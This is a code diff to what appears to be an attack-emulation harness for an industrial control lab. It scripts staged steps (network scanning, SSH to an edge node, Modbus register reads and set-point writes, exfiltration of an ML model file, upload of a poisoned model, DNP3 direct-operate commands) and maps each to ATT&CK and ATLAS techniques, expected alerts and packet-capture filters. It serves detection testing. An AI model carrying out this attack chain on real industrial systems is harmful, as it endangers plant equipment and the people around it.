@@ -21,62 +21,103 @@ def quiet(stage):
 
 
 def look(stage):
-    with stage.step("the edge network is scanned from the office", actors=("office",), targets=("edge", "registry"),
-                    techniques=("T0846.001", "T0846"), alerts=("scan.addresses", "scan.ports"),
-                    evidence="ip.src == {office} && (icmp || tcp.flags.syn == 1)"):  # fmt: skip
+    with stage.step(
+        "the edge network is scanned from the office",
+        actors=("office",),
+        targets=("edge", "registry"),
+        techniques=("T0846.001", "T0846"),
+        expected=("scan.addresses", "scan.ports"),
+        also=("scan.controllers", "boundary.conduit", "boundary.it_ot"),
+        evidence="ip.src == {office} && (icmp || tcp.flags.syn == 1)",
+    ):
         stage.done(stage.python("office", "attack_scan.py", "addresses", "10.50.0", 80))
         stage.done(stage.python("office", "attack_scan.py", "ports", ADDRESS["edge"], 40))
 
 
 def enter(stage):
-    with stage.step("SSH from the office to the edge node", actors=("office",), targets=("edge",),
-                    techniques=("T0886", "T0859"), alerts=("boundary.conduit", "boundary.it_ot"),
-                    evidence="tcp.port == 22 && ip.addr == {office}"):  # fmt: skip
+    with stage.step(
+        "SSH from the office to the edge node",
+        actors=("office",),
+        targets=("edge",),
+        techniques=("T0886", "T0859"),
+        expected=("lateral.new_admin_edge", "boundary.it_ot", "boundary.conduit"),
+        also=("credentials.privileged_session",),
+        evidence="tcp.port == 22 && ip.addr == {office}",
+    ):
         stage.ssh("office", "edge", "sleep", 12)
         stage.wait(600)
 
 
 def read(stage):
-    with stage.step("the edge node reads all registers of the PLC", actors=("edge",), targets=("plc1",),
-                    techniques=("T0861", "T0888"), alerts=("boundary.conduit",), evidence="modbus && ip.src == {edge}"):  # fmt: skip
+    with stage.step(
+        "the edge node reads all registers of the PLC",
+        actors=("edge",),
+        targets=("plc1",),
+        techniques=("T0861", "T0888"),
+        expected=("boundary.conduit", "lateral.chain", "lateral.relay"),
+        also=("scan.functions", "commands.range"),
+        evidence="modbus && ip.src == {edge}",
+    ):
         stage.done(stage.python("edge", "attack_modbus.py", ADDRESS["plc1"], "registers", 100))
 
 
 def write(stage):
-    with stage.step("the edge node writes set points", actors=("edge",), targets=("plc1",),
-                    techniques=("T0848", "T1692.001", "T0836"), alerts=("new_writer.write", "boundary.conduit"),
-                    evidence="modbus.func_code == 6 && ip.src == {edge}"):  # fmt: skip
+    with stage.step(
+        "the edge node writes set points",
+        actors=("edge",),
+        targets=("plc1",),
+        techniques=("T0848", "T1692.001", "T0836"),
+        expected=("new_writer.write", "boundary.conduit", "lateral.chain", "lateral.relay"),
+        also=("commands.range", "values.step"),
+        evidence="modbus.func_code == 6 && ip.src == {edge}",
+    ):
         stage.done(stage.python("edge", "attack_modbus.py", ADDRESS["plc1"], "write", 1520))
 
 
 def steal(stage):
-    name = stage.model("1.5.0", seed=2).name
+    name = stage.model("1.5.0").name
     cloud = stage.python("cloud", "web.py", ADDRESS["cloud"], 80)
     stage.listening(cloud, 80)
-    with stage.step("the model goes to the office and from there to the internet", actors=("office",),
-                    targets=("registry", "cloud"), techniques=("T0882", "AML.T0035", "AML.T0025"),
-                    alerts=("boundary.conduit", "boundary.it_ot"), evidence="http.request && ip.src == {office}"):  # fmt: skip
+    with stage.step(
+        "the model goes to the office and from there to the internet",
+        actors=("office",),
+        targets=("registry", "cloud"),
+        techniques=("T0882", "AML.T0035", "AML.T0025"),
+        expected=("exfiltration.model_file", "boundary.it_ot", "boundary.conduit", "exfiltration.new_destination"),
+        also=("boundary.internet", "lateral.file_transfer", "lateral.relay", "exfiltration.volume"),
+        evidence="http.request && ip.src == {office}",
+    ):
         stage.done(
             stage.python("office", "attack_beacon.py", ADDRESS["registry"], 8080, 1, f"/models/pump-wear/{name}")
         )
-        stage.done(
-            stage.python("office", "attack_beacon.py", ADDRESS["cloud"], 80, 1, "/upload", stage.model("1.5.0", seed=2))
-        )
+        stage.done(stage.python("office", "attack_beacon.py", ADDRESS["cloud"], 80, 1, "/upload", stage.model("1.5.0")))
 
 
 def swap(stage):
-    with stage.step("an unapproved model is stored as 1.5.1, and the edge node takes it", actors=("office",),
-                    targets=("registry", "edge"), techniques=("T0889", "AML.T0018", "AML.T0010"),
-                    alerts=("boundary.conduit", "boundary.it_ot"), evidence='http.request.uri contains "1.5.1.safetensors"'):  # fmt: skip
+    with stage.step(
+        "an unapproved model is stored as 1.5.1, and the edge node takes it",
+        actors=("office",),
+        targets=("registry", "edge"),
+        techniques=("T0889", "AML.T0018", "AML.T0010"),
+        expected=("boundary.it_ot", "boundary.conduit"),
+        also=("lateral.file_transfer", "exfiltration.model_file"),
+        evidence='http.request.uri contains "1.5.1.safetensors"',
+    ):
         bad = stage.model("1.5.1", seed=9, poison=0.6)
         stage.done(stage.python("office", "deploy.py", ADDRESS["registry"], bad))
         stage.wait(1800)
 
 
 def operate(stage):
-    with stage.step("direct operate at the outstation, from the edge node", actors=("edge",), targets=("rtu",),
-                    techniques=("T0848", "T1692.001"), alerts=("new_writer.control", "boundary.conduit"),
-                    evidence="dnp3.al.func == 5 && ip.src == {edge}"):  # fmt: skip
+    with stage.step(
+        "direct operate at the outstation, from the edge node",
+        actors=("edge",),
+        targets=("rtu",),
+        techniques=("T0848", "T1692.001"),
+        expected=("commands.direct_operate", "new_writer.control", "boundary.conduit"),
+        also=("commands.two_masters", "lateral.chain", "scan.integrity_poll", "values.step"),
+        evidence="dnp3.al.func == 5 && ip.src == {edge}",
+    ):
         stage.done(stage.python("edge", "attack_dnp3.py", ADDRESS["rtu"], "operate"))
 
 
